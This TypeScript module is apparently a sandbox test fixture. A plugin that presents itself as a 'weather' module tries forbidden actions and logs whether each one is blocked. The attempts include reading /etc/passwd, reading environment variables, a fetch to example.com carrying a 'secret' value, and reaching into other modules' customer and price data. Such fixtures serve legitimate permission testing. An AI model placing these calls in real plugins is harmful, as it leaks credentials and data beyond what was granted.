import { defineModule } from "@caryatid/sdk";

/** Says that it needs nothing, and tries to have what isn't its own. */
export default defineModule({
  name: "weather",
  description: "Speaks of the weather",
  init(context) {
    const attempts: Record<string, () => unknown> = {
      "to read /etc/passwd": () => Deno.readTextFile("/etc/passwd"),
      "to write a file": () => Deno.writeTextFile("/tmp/weather.txt", "fine"),
      "to know the user": () => Deno.env.get("USER"),
      "to call home": () => fetch("https://example.com/?what=secret"),
      "to ask for customers": () => context.request("customer.list", null),
      "to hear prices": () => context.subscribe("price.*").ready,
      "to publish prices": () => context.publish("price.tea", { number: 0 }),
    };
    context.run(async () => {
      await context.publish("weather.today", "fine");
      for (const [what, attempt] of Object.entries(attempts)) {
        try {
          await attempt();
          context.log.info("I was allowed {what}", { what });
        } catch (error) {
          const { code, name } = error as { code?: string; name: string };
          context.log.info("I tried {what}: {code}", {
            what,
            code: code ?? name,
          });
        }
      }
      throw new Error("nobody lets me do anything");
    });
  },
});
